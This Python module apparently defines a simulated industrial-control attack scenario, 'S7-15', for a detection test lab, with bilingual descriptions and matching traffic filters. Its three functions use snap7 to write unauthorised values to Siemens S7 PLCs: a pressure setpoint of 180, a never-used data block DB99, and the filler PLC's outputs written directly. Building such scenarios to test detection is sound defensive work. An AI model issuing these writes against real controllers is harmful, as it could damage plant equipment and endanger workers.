"""S7-15 unauthorised write: by a reader, to a new data block, and straight to the outputs.

Benign twin: hmi-press writes DB10 of the press and DB21 of the filler.
"""

from __future__ import annotations

import struct

from ..plant import plc_press, s7
from .base import Act, Attack, text


def reader_writes() -> None:
    client = s7.connect_pure("plc-press", s7.OP)
    client.db_write(plc_press.SET_POINTS, 0, bytearray(struct.pack(">f", 180.0)))
    s7.close(client)


def new_block() -> None:
    client = s7.connect_native("plc-press", s7.OP)
    s7.done(client.db_write(plc_press.UNUSED, 0, bytearray(b"\x01\x00\x00\x2a")))
    s7.close(client)


def outputs() -> None:
    client = s7.connect_native("plc-filler", s7.PG)
    s7.done(client.write_area(s7.native("snap7.type").Area.PA, 0, 0, bytearray(b"\xff")))
    s7.close(client)


ATTACK = Attack(
    "S7-15",
    text("未经授权写入 S7 PLC", "An unauthorised write to an S7 PLC"),
    (
        Act(
            "reader-writes",
            "historian",
            "plc-press",
            text(
                "只读的历史数据服务器把压力设定值改为 180(DB10)",
                "The historian, which only reads, sets the pressure to 180 (DB10)",
            ),
            "snap7",
            "s7comm.param.func == 0x05",
            reader_writes,
            also=("S7-16",),
        ),
        Act(
            "new-block",
            "hmi-press",
            "plc-press",
            text(
                "压机操作员站写入从未写过的数据块 DB99",
                "The press operator station writes the data block DB99 it never wrote",
            ),
            "snap7-native",
            "s7comm.param.item.db == 99",
            new_block,
            also=("S7-16",),
        ),
        Act(
            "outputs",
            "eng",
            "plc-filler",
            text(
                "工程师站绕过程序，直接写灌装 PLC 的输出(Q 区)",
                "The engineering station writes the filler's outputs (area Q) directly, bypassing the program",
            ),
            "snap7-native",
            "s7comm.param.func == 0x05",
            outputs,
            also=("S7-16", "S7-17"),
        ),
    ),
)
